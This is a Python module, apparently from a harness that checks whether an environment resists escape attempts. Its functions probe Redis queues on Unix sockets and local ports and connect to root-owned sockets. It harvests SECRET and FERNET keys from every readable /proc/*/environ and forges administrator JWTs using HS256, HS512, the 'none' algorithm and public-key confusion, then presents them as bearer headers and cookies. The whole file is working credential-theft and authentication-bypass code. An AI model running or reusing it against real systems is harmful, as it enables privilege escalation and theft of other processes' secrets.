"""The queue, the sockets of those that run as root, and being somebody else at an open door."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import os
import re
import socket
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

from . import TARGETS, RefusedError, attempt

_KEY = re.compile(rb"(?:SECRET|FERNET)[A-Z_]*(?:=|\": \")([\w=+/-]{16,})")
_KEPT_OUT = {302, 303, 401, 403}


@attempt("redis_sockets")
def reach_the_queue(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(5)
        line.connect(path)
        line.sendall(b"PING\r\n")
        if not line.recv(16).startswith(b"+PONG"):
            raise RefusedError("no queue")


@attempt("ports")
def find_the_queue_on_a_port(port: int) -> None:
    with socket.create_connection(("127.0.0.1", port), timeout=2) as line:
        line.sendall(b"PING\r\n")
        if not line.recv(16).startswith((b"+PONG", b"-NOAUTH")):
            raise RefusedError("no queue")


@attempt("sockets")
def reach_a_door_of_root(path: str) -> None:
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(5)
        line.connect(path)


@attempt("knocks")
def forge_a_token(knock: dict[str, Any]) -> None:
    """With every key and algorithm; the administrator brings a token that is good."""
    tokens = knock.get("tokens") or [
        _forge(algorithm, key, knock["claims"])
        for key in _keys()
        for algorithm in ("HS256", "HS512", "none")
    ]
    for token in tokens:
        headers = {"Authorization": f"Bearer {token}", "Cookie": f"_token={token}"}
        request = urllib.request.Request(knock["url"], headers=headers)  # noqa: S310
        try:
            urllib.request.build_opener(_Straight).open(request, timeout=60)
        except urllib.error.HTTPError as error:
            if error.code not in _KEPT_OUT:
                raise
        else:
            return
    raise RefusedError(f"{len(tokens)} tokens")


class _Straight(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, *_: Any) -> None:
        return None


def _forge(algorithm: str, key: bytes, claims: dict[str, Any]) -> str:
    now = int(time.time())
    head = f"{_part({'alg': algorithm, 'typ': 'JWT'})}."
    head += _part({"iat": now, "nbf": now, "exp": now + 50, **claims})
    if algorithm == "none":
        return f"{head}."
    digest = hashlib.sha256 if algorithm == "HS256" else hashlib.sha512
    return f"{head}.{_part(hmac.new(key, head.encode(), digest).digest())}"


def _part(content: Any) -> str:
    text = content if isinstance(content, bytes) else json.dumps(content).encode()
    return base64.urlsafe_b64encode(text).rstrip(b"=").decode()


def _keys() -> set[bytes]:
    """Every key in the environments that this user can read, and the public one, which a careless
    reader takes for a shared secret."""
    found = {Path(TARGETS["public_key"]).read_bytes(), b""}
    texts = [json.dumps(dict(os.environ)).encode()]
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            texts.append((folder / "environ").read_bytes())
        except OSError:
            continue
    return found.union(*(_KEY.findall(text) for text in texts))
